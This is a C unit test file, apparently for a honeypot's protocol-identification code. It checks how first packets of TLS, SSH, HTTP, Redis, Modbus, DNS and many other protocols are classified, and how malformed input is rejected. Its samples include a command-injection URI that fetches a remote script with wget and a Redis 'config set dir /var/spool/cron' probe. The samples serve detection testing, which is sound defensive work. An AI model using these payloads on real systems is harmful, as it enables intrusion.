    /* payload cut: the banner is not whole, so it is not reported */
    expect(adb_cnxn, 24 + 10, TCP, "adb", 90, &g);
    assert_no_detail(&g, "adb_banner");

    /* magic that does not match the command */
    uint8_t bad[sizeof(adb_cnxn)];
    memcpy(bad, adb_cnxn, sizeof(bad));
    bad[20] ^= 1;
    expect(BIN(bad), TCP, "unknown", 0, &g);

    /* data_length lying (4 GiB): not ADB */
    memcpy(bad, adb_cnxn, sizeof(bad));
    bad[15] = 0xff;
    expect(BIN(bad), TCP, "unknown", 0, &g);
}

static void test_mqtt(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(mqtt_connect), TCP, "mqtt", 90, &g);
    assert_detail(&g, "mqtt_client_id", "client");
    assert_detail(&g, "mqtt_username", "admin");
    expect(BIN(mqtt31_connect), TCP, "mqtt", 90, &g);
    assert_detail(&g, "mqtt_client_id", "mosq");

    uint8_t bad[sizeof(mqtt_connect)];
    memcpy(bad, mqtt_connect, sizeof(bad));
    bad[8] = 3;                         /* "MQTT" with the 3.1 level */
    expect(BIN(bad), TCP, "unknown", 0, &g);
}

static void test_mongodb(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(mongo_query), TCP, "mongodb", 95, &g);
    assert_detail(&g, "mongodb_command", "isMaster");
    assert_detail(&g, "mongodb_collection", "admin.$cmd");
    expect(BIN(mongo_msg), TCP, "mongodb", 95, &g);
    assert_detail(&g, "mongodb_command", "hello");

    /* a reply (responseTo set) is not a first packet */
    uint8_t bad[sizeof(mongo_msg)];
    memcpy(bad, mongo_msg, sizeof(bad));
    bad[8] = 1;
    expect(BIN(bad), TCP, "unknown", 0, &g);
}

static void test_postgres(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(pg_startup), TCP, "postgres", 90, &g);
    assert_detail(&g, "pg_user", "postgres");
    assert_detail(&g, "pg_database", "postgres");
    assert_detail(&g, "pg_application", "psql");
    expect(BIN(pg_sslrequest), TCP, "postgres", 90, &g);
    expect(BIN(pg_gssenc), TCP, "postgres", 90, &g);

    /* length lying: 1 GB startup packet */
    uint8_t bad[sizeof(pg_startup)];
    memcpy(bad, pg_startup, sizeof(bad));
    bad[0] = 0x40;
    expect(BIN(bad), TCP, "unknown", 0, &g);
}

static void test_modbus(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(modbus_rhr), TCP, "modbus", 95, &g);
    assert_detail(&g, "modbus_function", "3");
    expect(BIN(modbus_devid), TCP, "modbus", 95, &g);
    assert_detail(&g, "modbus_function", "43");

    uint8_t bad[sizeof(modbus_rhr)];
    memcpy(bad, modbus_rhr, sizeof(bad));
    bad[7] = 0x83;                      /* exception responses are not requests */
    expect(BIN(bad), TCP, "unknown", 0, &g);
    memcpy(bad, modbus_rhr, sizeof(bad));
    bad[3] = 0x01;                      /* protocol id must be 0 */
    expect(BIN(bad), TCP, "unknown", 0, &g);
    memcpy(bad, modbus_rhr, sizeof(bad));
    bad[5] = 0xff;                      /* length 255: beyond the MBAP maximum */
    expect(BIN(bad), TCP, "unknown", 0, &g);
    memcpy(bad, modbus_rhr, sizeof(bad));
    bad[5] = 0x20;                      /* plausible but longer than what we have: weaker */
    expect(BIN(bad), TCP, "modbus", 50, &g);
    assert_true(g.confidence < 90);
}

static void test_socks(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(socks4_connect), TCP, "socks4", 90, &g);
    assert_detail(&g, "socks_user", "root");
    expect(BIN(socks4a_connect), TCP, "socks4", 90, &g);
    assert_no_detail(&g, "socks_user");
    assert_detail(&g, "socks_host", "example.com");
    expect(BIN(socks5_hello), TCP, "socks5", 90, &g);
    expect(BIN(socks5_pipelined), TCP, "socks5", 80, &g);

    static const uint8_t short5[] = { 0x05, 0x03, 0x00, 0x02 };     /* claims 3 methods */
    expect(BIN(short5), TCP, "unknown", 0, &g);
    static const uint8_t long5[] = { 0x05, 0x01, 0x00, 0x41, 0x42 };
    expect(BIN(long5), TCP, "unknown", 0, &g);
}

static void test_misc_binary(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(telnet_will), TCP, "telnet", 90, &g);
    expect(BIN(java_rmi), TCP, "java-rmi", 90, &g);
    expect(TXT(vnc_version), TCP, "vnc", 90, &g);
    assert_detail(&g, "vnc_version", "RFB 003.008");
    expect(BIN(btc_version), TCP, "bitcoin", 90, &g);
    assert_detail(&g, "bitcoin_user_agent", "/Satoshi:0.16.0/");
    expect(BIN(memcached_bin_version), TCP, "memcached", 80, &g);
}

static void test_udp_protocols(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(dns_query), UDP, "dns", 90, &g);
    expect(BIN(dns_version_bind), UDP, "dns", 90, &g);
    expect(BIN(dns_tcp_query), TCP, "dns", 90, &g);
    expect(BIN(ntp_client), UDP, "ntp", 90, &g);
    expect(BIN(ntp_monlist), UDP, "ntp", 80, &g);
    expect(BIN(snmp_get), UDP, "snmp", 90, &g);
    assert_detail(&g, "snmp_community", "public");
    assert_detail(&g, "snmp_version", "2c");
    expect(BIN(memcached_udp_stats), UDP, "memcached", 90, &g);
    assert_detail(&g, "memcached_command", "stats");
    expect(BIN(ldap_search), UDP, "ldap", 80, &g);
    expect(BIN(quic_initial), UDP, "quic", 95, &g);
    expect(quic_initial, 100, UDP, "quic", 80, &g);        /* too short for a client's Initial */
    expect(BIN(quic_reserved), UDP, "quic", 60, &g);
    expect(BIN(ntp_li3), UDP, "ntp", 90, &g);

    /* the weak UDP shapes are not claimed on TCP, and vice versa */
    expect(BIN(ntp_client), TCP, "unknown", 0, &g);
    expect(BIN(dns_query), TCP, "unknown", 0, &g);
    expect(BIN(dns_tcp_query), UDP, "unknown", 0, &g);

    /* a DNS response, or a query with answers, is not a first packet */
    uint8_t bad[sizeof(dns_query)];
    memcpy(bad, dns_query, sizeof(bad));
    bad[2] = 0x81;
    expect(BIN(bad), UDP, "unknown", 0, &g);
    memcpy(bad, dns_query, sizeof(bad));
    bad[7] = 0x01;
    expect(BIN(bad), UDP, "unknown", 0, &g);
    /* a label length running past the name limit */
    memcpy(bad, dns_query, sizeof(bad));
    bad[12] = 0x50;
    expect(BIN(bad), UDP, "unknown", 0, &g);
}

static void test_ldap(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(BIN(ldap_bind), TCP, "ldap", 90, &g);
    assert_detail(&g, "ldap_bind_dn", "cn=admin,dc=example,dc=com");
    expect(BIN(ldap_search), TCP, "ldap", 80, &g);

    /* BER length with 5 length octets: refused */
    static const uint8_t ber5[] = { 0x30, 0x85, 0x01, 0x00, 0x00, 0x00, 0x00, 0x02, 0x01, 0x01, 0x60 };
    expect(BIN(ber5), TCP, "unknown", 0, &g);
}

/* ---- tests: text protocols ------------------------------------------------ */

static void test_http(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(TXT(http_get), TCP, "http", 95, &g);
    assert_detail(&g, "http_method", "GET");
    assert_detail(&g, "http_uri", "/shell?cd+/tmp;wget+http://1.2.3.4/x.sh");
    assert_detail(&g, "http_host", "10.0.0.1:80");
    assert_detail(&g, "http_user_agent", "Hello, world");
    assert_int_equal(g.ndetails, 4);

    expect(TXT("GET /\r\n"), TCP, "http", 60, &g);          /* HTTP/0.9 */
    assert_detail(&g, "http_uri", "/");
    expect(TXT("PROPFIND /webdav HTTP/1.1\r\nDepth: 1\r\n\r\n"), TCP, "http", 95, &g);
    expect(TXT("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"), TCP, "http", 95, &g);
    assert_detail(&g, "http_host", "example.com:443");
    expect(TXT("OPTIONS * HTTP/1.1\r\n\r\n"), TCP, "http", 95, &g);
    expect(TXT("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), TCP, "http", 90, &g);
    expect(TXT("FOO /x HTTP/1.0\r\n\r\n"), TCP, "http", 70, &g);  /* unknown method, real version */
    assert_true(g.confidence < 95);
    expect(TXT("GET /index.html HTT"), TCP, "http", 60, &g);      /* cut in the version */

    /* header names are case-insensitive, values trimmed */
    expect(TXT("GET / HTTP/1.1\r\nhost:   a.example  \r\nuser-agent:\tcurl/8.0\r\n\r\n"), TCP, "http", 95, &g);
    assert_detail(&g, "http_host", "a.example");
    assert_detail(&g, "http_user_agent", "curl/8.0");

    /* a header after the blank line is body, not a header */
    expect(TXT("GET / HTTP/1.1\r\n\r\nHost: body\r\n"), TCP, "http", 95, &g);
    assert_no_detail(&g, "http_host");

    expect(TXT("GET / HTTP/1.1 junk\r\n"), TCP, "unknown", 0, &g);
    expect(TXT("GET / FTP/1.1\r\n"), TCP, "unknown", 0, &g);
    expect(TXT("GET"), TCP, "unknown", 0, &g);
    expect(TXT("get / HTTP/1.1\r\n"), TCP, "unknown", 0, &g);
}

static void test_http_detail_cap(void **state)
{
    (void)state;
    struct hp_guess g;
    static char req[2048];
    int n = snprintf(req, sizeof(req), "GET / HTTP/1.1\r\nUser-Agent: ");
    memset(req + n, 'A', 1000);
    n += 1000;
    n += snprintf(req + n, sizeof(req) - (size_t)n, "\r\n\r\n");
    expect(req, (size_t)n, TCP, "http", 95, &g);
    const struct hp_guess_detail *d = find_detail(&g, "http_user_agent");
    assert_non_null(d);
    assert_int_equal(d->len, HP_GUESS_DETAIL_MAX);
}

static void test_http_jsonrpc(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(TXT(http_jsonrpc), TCP, "http", 95, &g);
    assert_detail(&g, "http_method", "POST");
    assert_detail(&g, "jsonrpc_method", "eth_accounts");
    assert_detail(&g, "http_user_agent", "Go-http-client/1.1");
    assert_int_equal(g.ndetails, 4);    /* Host is the one dropped */

    /* the body is not in the buffer yet: no jsonrpc_method */
    expect(http_jsonrpc, sizeof(http_jsonrpc) - 1 - 60, TCP, "http", 95, &g);
    assert_no_detail(&g, "jsonrpc_method");
    /* "method" as a value is not a key */
    expect(TXT("POST / HTTP/1.1\r\n\r\n{\"x\":\"method\"}"), TCP, "http", 95, &g);
    assert_no_detail(&g, "jsonrpc_method");
}

static void test_sip_rtsp_ssdp(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(TXT(sip_options), UDP, "sip", 95, &g);
    assert_detail(&g, "sip_method", "OPTIONS");
    assert_detail(&g, "sip_uri", "sip:100@10.0.0.1");
    assert_detail(&g, "sip_user_agent", "friendly-scanner");
    expect(TXT(sip_options), TCP, "sip", 95, &g);
    expect(TXT(sip_register), UDP, "sip", 95, &g);
    assert_detail(&g, "sip_method", "REGISTER");
    assert_no_detail(&g, "sip_user_agent");
    expect(TXT("INVITE sip:bob@example.com"), UDP, "sip", 70, &g);   /* cut: the URI decides */

    expect(TXT(rtsp_options), TCP, "rtsp", 95, &g);
    assert_detail(&g, "rtsp_method", "OPTIONS");
    assert_detail(&g, "rtsp_uri", "rtsp://10.0.0.1:554/");
    expect(TXT(rtsp_describe), TCP, "rtsp", 95, &g);
    assert_detail(&g, "rtsp_user_agent", "LibVLC/3.0.18");

    expect(TXT(ssdp_msearch), UDP, "ssdp", 95, &g);
    assert_detail(&g, "ssdp_method", "M-SEARCH");
    assert_detail(&g, "ssdp_st", "ssdp:all");
    expect(TXT("NOTIFY * HTTP/1.1\r\nNT: upnp:rootdevice\r\n\r\n"), UDP, "ssdp", 95, &g);
    assert_detail(&g, "ssdp_nt", "upnp:rootdevice");
    /* GENA NOTIFY to a path is plain HTTP */
    expect(TXT("NOTIFY /evt HTTP/1.1\r\n\r\n"), TCP, "http", 95, &g);
    /* the SIP method with an HTTP version is HTTP */
    expect(TXT("OPTIONS sip:x HTTP/1.1\r\n\r\n"), TCP, "http", 95, &g);
}

static void test_redis(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(TXT(redis_ping), TCP, "redis", 95, &g);
    assert_detail(&g, "redis_command", "PING");
    expect(TXT(redis_config), TCP, "redis", 95, &g);
    assert_detail(&g, "redis_command", "CONFIG");
    expect(TXT("INFO\r\n"), TCP, "redis", 70, &g);
    assert_detail(&g, "redis_command", "INFO");
    expect(TXT("config set dir /var/spool/cron\r\n"), TCP, "redis", 70, &g);
    assert_detail(&g, "redis_command", "config");
    expect(TXT("SET foo bar\n"), TCP, "redis", 70, &g);

    /* bulk length lying: still RESP, command not reported */
    expect(TXT("*1\r\n$999999\r\nPING\r\n"), TCP, "redis", 80, &g);
    assert_no_detail(&g, "redis_command");
    /* never steals HTTP, and an unterminated inline word is nothing */
    expect(TXT("GET / HTTP/1.1\r\n\r\n"), TCP, "http", 95, &g);
    expect(TXT("PING"), TCP, "unknown", 0, &g);
    expect(TXT("*1\r\nX"), TCP, "unknown", 0, &g);
}

static void test_memcached_text(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(TXT("stats\r\n"), TCP, "memcached", 80, &g);
    assert_detail(&g, "memcached_command", "stats");
    expect(TXT("set foo 0 3600 3\r\nbar\r\n"), TCP, "memcached", 80, &g);
    assert_detail(&g, "memcached_command", "set");
    expect(TXT("version\r\n"), UDP, "memcached", 80, &g);
}

static void test_jsonrpc(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(TXT(jsonrpc_raw), TCP, "jsonrpc", 90, &g);
    assert_detail(&g, "jsonrpc_method", "eth_blockNumber");
    expect(TXT(stratum), TCP, "jsonrpc", 70, &g);
    assert_detail(&g, "jsonrpc_method", "mining.subscribe");
    expect(TXT("[{\"jsonrpc\":\"2.0\",\"method\":\"net_version\",\"id\":1}]"), TCP, "jsonrpc", 90, &g);
    assert_detail(&g, "jsonrpc_method", "net_version");
    /* an escaped method name is not reported raw */
    expect(TXT("{\"jsonrpc\":\"2.0\",\"method\":\"a\\\"b\"}"), TCP, "jsonrpc", 90, &g);
    assert_no_detail(&g, "jsonrpc_method");
    expect(TXT("{\"hello\":\"world\"}"), TCP, "unknown", 0, &g);
}

static void test_line_protocols(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(TXT("EHLO scanner.example\r\n"), TCP, "smtp", 80, &g);
    assert_detail(&g, "smtp_helo", "scanner.example");
    expect(TXT("HELO x\r\n"), TCP, "smtp", 80, &g);
    expect(TXT("USER anonymous\r\n"), TCP, "ftp", 60, &g);
    assert_detail(&g, "ftp_user", "anonymous");
    expect(TXT("AUTH TLS\r\n"), TCP, "ftp", 60, &g);
    expect(TXT("AUTH hunter2\r\n"), TCP, "redis", 60, &g);   /* redis AUTH, not FTP */
    expect(TXT("CAPA\r\n"), TCP, "pop3", 60, &g);
    expect(TXT("a001 CAPABILITY\r\n"), TCP, "imap", 70, &g);
    assert_detail(&g, "imap_command", "CAPABILITY");
    expect(TXT("NICK bot123\r\nUSER bot 0 * :bot\r\n"), TCP, "irc", 70, &g);
    assert_detail(&g, "irc_nick", "bot123");
    expect(TXT("USER bot 0 * :real name\r\n"), TCP, "irc", 70, &g);
}

static void test_elm327(void **state)
{
    (void)state;
    struct hp_guess g;
    expect(TXT("ATZ\r"), TCP, "elm327", 80, &g);
    assert_detail(&g, "elm327_command", "ATZ");
    expect(TXT("ATI\r"), TCP, "elm327", 80, &g);
    expect(TXT("AT SP 0\r"), TCP, "elm327", 80, &g);
    assert_detail(&g, "elm327_command", "AT SP 0");
    expect(TXT("ate0\r\n"), TCP, "elm327", 80, &g);
    expect(TXT("0100\r"), TCP, "elm327", 60, &g);
    expect(TXT("ATTACK\r"), TCP, "unknown", 0, &g);
    expect(TXT("ATZ"), TCP, "unknown", 0, &g);              /* no terminator yet */
}

/* ---- hostile input --------------------------------------------------------- */

static void test_junk(void **state)
{
    (void)state;
    struct hp_guess g;
    uint8_t buf[512];

    memset(buf, 0xff, sizeof(buf));
    for (size_t n = 1; n <= sizeof(buf); n++) {
        guess(buf, n, TCP, &g);
        assert_string_equal(g.proto, "unknown");
        guess(buf, n, UDP, &g);
        assert_string_equal(g.proto, "unknown");
    }
    memset(buf, 0, sizeof(buf));
    for (size_t n = 1; n <= sizeof(buf); n++) {
        guess(buf, n, TCP, &g);
        assert_string_equal(g.proto, "unknown");
        guess(buf, n, UDP, &g);
        assert_string_equal(g.proto, "unknown");
    }
    expect(TXT("hello there\n"), TCP, "unknown", 0, &g);
    expect(TXT("\x01\x02\x03\x04\x05\x06\x07\x08"), TCP, "unknown", 0, &g);
    expect(TXT("\xff\xff\xfb"), TCP, "unknown", 0, &g);   /* IAC IAC is data, not a command */

    /* deterministic pseudo-random junk: only the invariants are checked */
    uint32_t x = 2463534242u;
    for (int round = 0; round < 2000; round++) {
        size_t n = (size_t)(round % 300);
        for (size_t i = 0; i < n; i++) {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            buf[i] = (uint8_t)x;
        }
        guess(buf, n, round & 1 ? UDP : TCP, &g);
    }
}

struct sample {
    const char *name;
    const void *data;
    size_t len;
    enum hp_guess_transport t;
    const char *proto;
    size_t min_prefix;      /* every prefix at least this long is already proto; 0: full only */
};

#define SB(n, a, t, p, m) { n, (a), sizeof(a), t, p, m }
#define ST(n, s, t, p, m) { n, (s), sizeof(s) - 1, t, p, m }

static const struct sample samples[] = {
    SB("tls", tls_client_hello, TCP, "tls", 3),
    SB("sslv2", sslv2_hello, TCP, "tls", 5),
    SB("dtls", dtls_hello, UDP, "dtls", 13),
    SB("quic", quic_reserved, UDP, "quic", 11),
    ST("ssh", ssh_banner, TCP, "ssh", 4),
    SB("rdp", rdp_cookie, TCP, "rdp", 6),
    SB("rdp-token", rdp_token, TCP, "rdp", 6),
    SB("rdp-negreq", rdp_negreq, TCP, "rdp", 6),
    SB("s7-cr", s7_cotp_cr, TCP, "s7", 12),
    SB("s7-setup", s7_setup, TCP, "s7", 8),
    SB("smb1", smb1_negotiate, TCP, "smb", 8),
    SB("smb2", smb2_negotiate, TCP, "smb", 8),
    SB("netbios", netbios_req, TCP, "netbios-ssn", 4),
    SB("mssql", mssql_prelogin, TCP, "mssql", 8),
    SB("adb", adb_cnxn, TCP, "adb", 4),
    SB("mqtt", mqtt_connect, TCP, "mqtt", 8),
    SB("mqtt31", mqtt31_connect, TCP, "mqtt", 10),
    SB("mongo-query", mongo_query, TCP, "mongodb", 16),
    SB("mongo-msg", mongo_msg, TCP, "mongodb", 16),
    SB("pg-startup", pg_startup, TCP, "postgres", 8),
    SB("pg-ssl", pg_sslrequest, TCP, "postgres", 8),
    SB("modbus", modbus_rhr, TCP, "modbus", 8),
    SB("socks4", socks4_connect, TCP, "socks4", 8),
    SB("socks5", socks5_hello, TCP, "socks5", 0),
    SB("telnet", telnet_will, TCP, "telnet", 2),
    SB("java-rmi", java_rmi, TCP, "java-rmi", 4),
    ST("vnc", vnc_version, TCP, "vnc", 4),
    SB("bitcoin", btc_version, TCP, "bitcoin", 4),
    SB("dns", dns_query, UDP, "dns", 12),
    SB("dns-tcp", dns_tcp_query, TCP, "dns", 14),
    SB("ntp", ntp_client, UDP, "ntp", 0),
    SB("ntp-monlist", ntp_monlist, UDP, "ntp", 8),
    SB("snmp", snmp_get, UDP, "snmp", 7),
    SB("ldap", ldap_bind, TCP, "ldap", 6),
    SB("cldap", ldap_search, UDP, "ldap", 6),
    SB("memcached-udp", memcached_udp_stats, UDP, "memcached", 0),
    SB("memcached-bin", memcached_bin_version, TCP, "memcached", 24),
    ST("http", http_get, TCP, "http", 5),
    ST("http-jsonrpc", http_jsonrpc, TCP, "http", 6),
    ST("sip", sip_options, UDP, "sip", 12),
    ST("rtsp", rtsp_describe, TCP, "rtsp", 16),
    ST("ssdp", ssdp_msearch, UDP, "ssdp", 10),
    ST("redis", redis_ping, TCP, "redis", 4),
    ST("jsonrpc", jsonrpc_raw, TCP, "jsonrpc", 11),
    ST("smtp", "EHLO scanner.example\r\n", TCP, "smtp", 5),
    ST("elm327", "AT SP 0\r", TCP, "elm327", 0),
};

/* Every prefix of every sample: invariants and no over-read; the label from min_prefix on. */
static void test_truncation(void **state)
{
    (void)state;
    struct hp_guess g;
    for (size_t i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
        const struct sample *s = &samples[i];
        for (size_t n = 0; n <= s->len; n++) {
            guess(s->data, n, s->t, &g);
            guess(s->data, n, s->t == TCP ? UDP : TCP, &g);
            guess(s->data, n, s->t, &g);
            bool must = n == s->len || (s->min_prefix && n >= s->min_prefix);
            if (must && strcmp(g.proto, s->proto))
                fail_msg("%s cut at %zu/%zu: got %s, want %s", s->name, n, s->len, g.proto, s->proto);
            if (n == 0)
                assert_string_equal(g.proto, "empty");
        }
    }
}

/* Each sample with one byte flipped at every position: invariants and no over-read. */
static void test_bitflips(void **state)
{
    (void)state;
    struct hp_guess g;
    uint8_t buf[512];
    for (size_t i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
        const struct sample *s = &samples[i];
        assert_true(s->len <= sizeof(buf));
        for (size_t pos = 0; pos < s->len; pos++) {
            static const uint8_t vals[] = { 0x00, 0xff, 0x7f, 0x80, 0x0a };
            for (size_t v = 0; v < sizeof(vals); v++) {
                memcpy(buf, s->data, s->len);
                buf[pos] = vals[v];
                guess(buf, s->len, TCP, &g);
                guess(buf, s->len, UDP, &g);
            }
        }
    }
}

/* ---- HTTP framing as bytes arrive (the trap's 404) --------------------------- */

/* A request sent a byte at a time: hp_http_request_len_more() answers as
 * hp_http_request_len() at every prefix, the whole length once the body is in. */
static void test_http_framing_pieces(void **state)
{
    static const char req[] = "POST /cgi-bin/x HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\n\r\nabcde";
    const size_t n = sizeof(req) - 1;
    struct hp_http_framing st = { 0, 0 };
    (void)state;
    for (size_t len = 0; len <= n; len++) {
        long want = hp_http_request_len((const uint8_t *)req, len, 65536);
        assert_int_equal(hp_http_request_len_more(&st, guarded(req, len), len, 65536), want);
        assert_int_equal(want, len == n ? (long)n : 0);
    }
}

/*
 * The trap asks again with its whole buffer at every arrival.  A head of
 * 64 KiB of two-byte lines ("FOO" is no method hp_http_sniff hands to the
 * web engine), then a 32 KiB body, each a byte at a time: every ask walked
 * every line so far, seconds of the network thread for one connection.
 */
static void test_http_framing_linear(void **state)
{
    static uint8_t d[96 * 1024 + 128];
    static const char head[] = "FOO / HTTP/1.1\r\n";
    static const char clen[] = "Content-Length: 32768\r\n\r\n";
    struct hp_http_framing st = { 0, 0 };
    size_t n = 0, cap = sizeof(d);
    (void)state;
    memcpy(d, head, sizeof(head) - 1);
    n = sizeof(head) - 1;
    while (n < 64 * 1024) {
        d[n++] = 'a';
        d[n++] = '\n';
    }
    memcpy(d + n, clen, sizeof(clen) - 1);
    size_t hdr = n + sizeof(clen) - 1, total = hdr + 32768;
    memset(d + hdr, 'b', 32768);
    double t0 = 1e3 * test_cpu_s();
    for (size_t len = 1; len < total; len++)
        assert_int_equal(hp_http_request_len_more(&st, d, len, cap), 0);
    assert_int_equal(hp_http_request_len_more(&st, d, total, cap), (long)total);
    assert_true(1e3 * test_cpu_s() - t0 < 200.0);
    assert_int_equal(hp_http_request_len(d, total, cap), (long)total);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_empty),
        cmocka_unit_test(test_tls),
        cmocka_unit_test(test_ssh),
        cmocka_unit_test(test_rdp),
        cmocka_unit_test(test_s7),
        cmocka_unit_test(test_smb_netbios),
        cmocka_unit_test(test_mssql),
        cmocka_unit_test(test_adb),
        cmocka_unit_test(test_mqtt),
        cmocka_unit_test(test_mongodb),
        cmocka_unit_test(test_postgres),
        cmocka_unit_test(test_modbus),
        cmocka_unit_test(test_socks),
        cmocka_unit_test(test_misc_binary),
        cmocka_unit_test(test_udp_protocols),
        cmocka_unit_test(test_ldap),
        cmocka_unit_test(test_http),
        cmocka_unit_test(test_http_detail_cap),
        cmocka_unit_test(test_http_jsonrpc),
        cmocka_unit_test(test_sip_rtsp_ssdp),
        cmocka_unit_test(test_redis),
        cmocka_unit_test(test_memcached_text),
        cmocka_unit_test(test_jsonrpc),
        cmocka_unit_test(test_line_protocols),
        cmocka_unit_test(test_elm327),
        cmocka_unit_test(test_junk),
        cmocka_unit_test(test_truncation),
        cmocka_unit_test(test_bitflips),
        cmocka_unit_test(test_http_framing_pieces),
        cmocka_unit_test(test_http_framing_linear),
    };
    return cmocka_run_group_tests(tests, setup_guard, teardown_guard);
}
